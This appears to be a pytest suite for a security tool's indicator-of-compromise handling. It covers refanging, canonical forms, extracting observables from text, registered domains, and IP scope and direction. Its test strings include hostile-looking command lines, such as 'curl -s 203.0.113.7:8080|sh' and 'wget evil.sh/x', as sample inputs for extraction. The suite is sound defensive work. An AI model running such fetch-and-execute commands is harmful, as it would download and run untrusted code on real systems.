"""Observables: refanging, recognition, canonical form, extraction, and the scope of addresses."""

from __future__ import annotations

import string
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aurora.kernel.evidence import Provenance
from aurora.kernel.models import Alert, Observable, ObservableType
from aurora.kernel.networks import AddressScope, Direction, direction, scope_of
from aurora.kernel.observables import (
    canonical,
    extract,
    observable,
    recognise,
    refang,
    registered_domain,
    url_host,
)

T = ObservableType
SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"


def found(text: str) -> list[tuple[str, str]]:
    return [(each.type.value, each.value) for each in extract(text, Provenance.ATTACKER_WRITABLE)]


# --- refang -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("defanged", "whole"),
    [
        ("hxxp://evil[.]example[.]com/a", "http://evil.example.com/a"),
        ("hXXps[:]//evil(.)com", "https://evil.com"),
        ("hxxps[://]evil{.}com", "https://evil.com"),
        ("h**p://evil[dot]com", "http://evil.com"),
        ("fxp://evil[.com", "ftp://evil.com"),
        ("bob[at]evil[.]com", "bob@evil.com"),
        ("bob[@]evil (dot) com", "bob@evil.com"),
        ("203[.]0[.]113[.]7", "203.0.113.7"),
        ("ET MALWARE CnC Domain (evil .top)", "ET MALWARE CnC Domain (evil.top)"),
        ("[2001:db8::1]:443 f(x) arr[0]", "[2001:db8::1]:443 f(x) arr[0]"),
    ],
)
def test_a_defanged_address_becomes_whole_and_other_brackets_stay(defanged, whole):
    assert refang(defanged) == whole


# --- canonical form ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("type_", "value", "expected"),
    [
        (T.IP, "2001:0DB8:0:0::1", "2001:db8::1"),
        (T.IP, "::ffff:203.0.113.7", "203.0.113.7"),
        (T.IP, "fe80::1%eth0", "fe80::1"),
        (T.DOMAIN, "Evil.Example.COM.", "evil.example.com"),
        (T.DOMAIN, "bücher.example", "xn--bcher-kva.example"),
        (T.DOMAIN, "straße.de", "xn--strae-oqa.de"),
        (T.DOMAIN, "\uff45\uff56\uff49\uff4c\u3002com", "evil.com"),
        (T.URL, "HTTPS://User@Evil.COM:443/A?b=C#d", "https://User@evil.com/A?b=C#d"),
        (T.URL, "http://[2001:DB8::1]:8080/", "http://[2001:db8::1]:8080/"),
        (T.EMAIL, "Bob.Smith@EVIL.com", "Bob.Smith@evil.com"),
        (T.HASH_SHA256, SHA256.upper(), SHA256),
        (T.CVE, "cve_2021_44228", "CVE-2021-44228"),
        (T.REGISTRY_KEY, r"HKEY_LOCAL_MACHINE\Software\Run", r"HKLM\Software\Run"),
    ],
)
def test_equal_observables_have_one_text(type_, value, expected):
    assert canonical(type_, value) == expected


@pytest.mark.parametrize(
    ("type_", "value"),
    [
        (T.IP, "999.1.1.1"),
        (T.IP, "010.1.1.1"),
        (T.DOMAIN, "a..b"),
        (T.DOMAIN, "two words.com"),
        (T.DOMAIN, "a" * 64 + ".com"),
        (T.DOMAIN, "a℀b.com"),
        (T.URL, "//evil.com"),
        (T.URL, "http://"),
        (T.EMAIL, "nobody"),
        (T.HASH_MD5, "z" * 32),
        (T.HASH_SHA1, "a" * 32),
        (T.CVE, "CVE-21-1"),
        (T.MUTEX, "  "),
        (T.FILE_PATH, "a" * 5000),
    ],
)
def test_a_value_of_another_form_is_refused_without_repeating_it(type_, value):
    with pytest.raises(ValueError, match=r"\w") as caught:
        canonical(type_, value)

    assert observable(type_, value) is None
    assert not value.strip() or value not in str(caught.value)


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(list(T)), st.text(max_size=60) | st.text("aB1.:/@-_[]*\\ üß", max_size=40))
def test_the_canonical_form_of_a_canonical_form_is_itself(type_, value):
    try:
        once = canonical(type_, value)
    except ValueError:
        return

    assert canonical(type_, once) == once


# --- recognise --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "type_", "value"),
    [
        ("evil.example.com", T.DOMAIN, "evil.example.com"),
        ("malicious-domain.com", T.DOMAIN, "malicious-domain.com"),
        ("*.evil.pl", T.DOMAIN, "evil.pl"),
        ("WORKSTATION1", T.DOMAIN, "workstation1"),
        ("203.0.113.7", T.IP, "203.0.113.7"),
        ("203[.]0[.]113[.]7:8080", T.IP, "203.0.113.7"),
        ("[2001:db8::1]:443", T.IP, "2001:db8::1"),
        (SHA256.upper(), T.HASH_SHA256, SHA256),
        ("MD5: D41D8CD98F00B204E9800998ECF8427E", T.HASH_MD5, "d41d8cd98f00b204e9800998ecf8427e"),
        ("<hxxp://Evil[.]com/x>", T.URL, "http://evil.com/x"),
        ("evil.com/x", T.URL, "evil.com/x"),
        ("bob@evil.com", T.EMAIL, "bob@evil.com"),
        ("CVE-2021-44228", T.CVE, "CVE-2021-44228"),
        ("powershell.exe", T.FILE_PATH, "powershell.exe"),
        ("readme.md", T.FILE_PATH, "readme.md"),
        (r"C:\Users\Bob Smith\x.dll", T.FILE_PATH, r"C:\Users\Bob Smith\x.dll"),
        ("/tmp/.x", T.FILE_PATH, "/tmp/.x"),
        (r"HKCU\Software\Run", T.REGISTRY_KEY, r"HKCU\Software\Run"),
        (r"Global\qakbot", T.MUTEX, r"Global\qakbot"),
        ("Mozilla/5.0 (X11; Linux)", T.USER_AGENT, "Mozilla/5.0 (X11; Linux)"),
    ],
)
def test_a_bare_string_is_typed_by_its_form(text, type_, value):
    assert recognise(text) == Observable(type=type_, value=value)


@pytest.mark.parametrize(
    ("text", "fault"),
    [
        ("", "empty"),
        (" '' ", "empty"),
        ("x" * 5000, "longer"),
        ("a\x00b", "control"),
        ("please call me", "free text"),
        ("192.168.0.0/16", "free text"),
        ("999.999.1.1", "free text"),
    ],
)
def test_what_is_no_observable_is_refused_with_the_kind_of_fault(text, fault):
    with pytest.raises(ValueError, match=fault):
        recognise(text)


def test_an_alert_takes_bare_strings_as_observables():
    bare = ["evil.example.com", "203.0.113.7"]

    alert = Alert(id="0198c0de-0000-7000-8000-000000000001", title="t", severity="high", source="network", iocs=bare)

    assert [each.type for each in alert.observables] == [T.DOMAIN, T.IP]
    assert alert.iocs == bare


# --- extract ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("beacon to hxxps://Evil[.]com/a.php).", [("url", "https://evil.com/a.php"), ("domain", "evil.com")]),
        (
            "see https://en.wikipedia.org/wiki/Foo_(bar).",
            [("url", "https://en.wikipedia.org/wiki/Foo_(bar)"), ("domain", "en.wikipedia.org")],
        ),
        ("GET http://[2001:db8::1]:80/x", [("url", "http://[2001:db8::1]/x"), ("ip", "2001:db8::1")]),
        ("curl -s 203.0.113.7:8080|sh", [("ip", "203.0.113.7")]),
        ("from bob@corp.co.uk to x@localhost", [("email", "bob@corp.co.uk")]),
        ("SHA256=" + SHA256.upper() + ",IMPHASH=0123456789abcdef0123456789abcdef", [("hash_sha256", SHA256)]),
        ("exploits cve-2021-44228 (CVE_2021_44228)", [("cve", "CVE-2021-44228")]),
        (r"\\files.evil.net\share and C:\tools\foo.com and /srv/www/site.org/x", [("domain", "files.evil.net")]),
        ("nslookup EVIL.COM; ping mail.evil.pl", [("domain", "evil.com"), ("domain", "mail.evil.pl")]),
        ("lookup of evil.com, then evil.com.", [("domain", "evil.com")]),
        ("dropped evil[.]zip from wget evil.sh/x", [("domain", "evil.zip"), ("domain", "evil.sh")]),
    ],
)
def test_observables_are_found_in_text_and_command_lines(text, expected):
    assert found(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "powershell.exe cmd.exe svchost.exe a.dll",
        "python script.py && bash run.sh; unzip a.zip; cat readme.md id_rsa.pub libc.so",
        "New-Object System.Net.WebClient; [System.IO.File]; $env.name; foo.run(x)",
        "user.id host.os.name event.data com.example.app org.apache.commons",
        "version 1.2.3.4.5 v1.2.3.4 Chrome/120.0.0.0 12:34:56 std::string 00:11:22:33:44:55",
        "dc01.corp.local printer.lan e.g. i.e. etc.",
        "0.0.0.0 00000000000000000000000000000000 id 12345678901234567890123456789012",
        r"C:\\Users\\bob\\Desktop\\command.com",
    ],
)
def test_file_names_code_versions_and_inner_names_are_no_observables(text):
    assert found(text) == []


def test_provenance_is_that_of_the_text():
    (only,) = extract("evil.com", Provenance.ATTACKER_WRITABLE)

    assert only.provenance is Provenance.ATTACKER_WRITABLE


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300) | st.text(string.punctuation + "ab1 .:/@[]", max_size=300))
def test_no_text_breaks_extraction_and_all_it_finds_is_canonical(text):
    for each in extract(text, Provenance.SENSOR):
        assert canonical(each.type, each.value) == each.value


@settings(max_examples=100, deadline=None)
@given(st.text("ab.:/@[](){}hxptdo ", max_size=80))
def test_refanging_never_makes_a_text_longer(text):
    assert len(refang(text)) <= len(text)


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "a.",
        "a@",
        "1.",
        "f",
        ":",
        "a:",
        "http://",
        "a-",
        "%",
        "h**p",
        "[.]",
        "CVE-",
        "a" * 64 + ".",
        "=\"'",
        "host a.id ",
        "(a .b",
    ],
)
def test_the_time_to_extract_is_bounded_whatever_the_text(unit):
    text = unit * (200_000 // len(unit))
    started = time.process_time()

    extract(text, Provenance.ATTACKER_WRITABLE)

    assert time.process_time() - started < 1.0, "65,536 characters take some 30 ms; quadratic patterns take minutes"


# --- names ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "registered"),
    [
        ("mail.evil.co.uk", "evil.co.uk"),
        ("x.y.github.io", "y.github.io"),
        ("evil.com.", "evil.com"),
        ("a.b.xn--55qx5d.cn", "b.xn--55qx5d.cn"),
        ("co.uk", None),
        ("dc01.corp.local", None),
        ("localhost", None),
        ("203.0.113.7", None),
        ("not a name", None),
    ],
)
def test_the_registered_domain_follows_the_public_suffix_list(name, registered):
    assert registered_domain(name) == registered


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("http://user:p@ss@evil.com:80/x@y", "evil.com"),
        ("http://[2001:db8::1]:1/", "2001:db8::1"),
        ("evil.com/x", "evil.com"),
        ("https://evil.com?x=/", "evil.com"),
    ],
)
def test_the_host_of_a_url_is_not_fooled_by_user_parts(url, host):
    assert url_host(url) == host


# --- addresses --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("address", "scope"),
    [
        ("8.8.8.8", AddressScope.GLOBAL),
        ("10.1.2.3", AddressScope.PRIVATE),
        ("172.31.255.255", AddressScope.PRIVATE),
        ("172.32.0.0", AddressScope.GLOBAL),
        ("100.64.0.1", AddressScope.SHARED),
        ("100.128.0.0", AddressScope.GLOBAL),
        ("127.0.0.1", AddressScope.LOOPBACK),
        ("169.254.169.254", AddressScope.LINK_LOCAL),
        ("203.0.113.7", AddressScope.DOCUMENTATION),
        ("224.0.0.251", AddressScope.MULTICAST),
        ("255.255.255.255", AddressScope.RESERVED),
        ("198.18.0.1", AddressScope.RESERVED),
        ("192.0.0.9", AddressScope.GLOBAL),
        ("192.0.0.11", AddressScope.RESERVED),
        ("0.0.0.0", AddressScope.UNSPECIFIED),
        ("::", AddressScope.UNSPECIFIED),
        ("::1", AddressScope.LOOPBACK),
        ("fe80::1%eth0", AddressScope.LINK_LOCAL),
        ("fd00::1", AddressScope.PRIVATE),
        ("2001:db8::1", AddressScope.DOCUMENTATION),
        ("2606:4700:4700::1111", AddressScope.GLOBAL),
        ("ff02::1", AddressScope.MULTICAST),
        ("4000::1", AddressScope.RESERVED),
        ("::ffff:10.0.0.1", AddressScope.PRIVATE),
        ("::ffff:8.8.8.8", AddressScope.GLOBAL),
        ("64:ff9b::a00:1", AddressScope.PRIVATE),
        ("2002:a00:1::", AddressScope.PRIVATE),
        ("nonsense", None),
        ("", None),
        ("1.2.3", None),
    ],
)
def test_the_scope_of_an_address_is_that_of_the_registries(address, scope):
    assert scope_of(address) is scope


@pytest.mark.parametrize(
    ("source", "destination", "expected"),
    [
        ("203.0.113.7", "10.0.0.5", Direction.INBOUND),
        ("10.0.0.5", "8.8.8.8", Direction.OUTBOUND),
        ("10.0.0.5", "192.168.1.1", Direction.INTERNAL),
        ("10.0.0.5", "224.0.0.251", Direction.INTERNAL),
        ("8.8.8.8", "1.1.1.1", Direction.EXTERNAL),
        (None, "10.0.0.5", Direction.UNKNOWN),
        ("0.0.0.0", "10.0.0.5", Direction.UNKNOWN),
        ("host", "10.0.0.5", Direction.UNKNOWN),
    ],
)
def test_the_direction_is_seen_from_ones_own_network(source, destination, expected):
    assert direction(source, destination) is expected
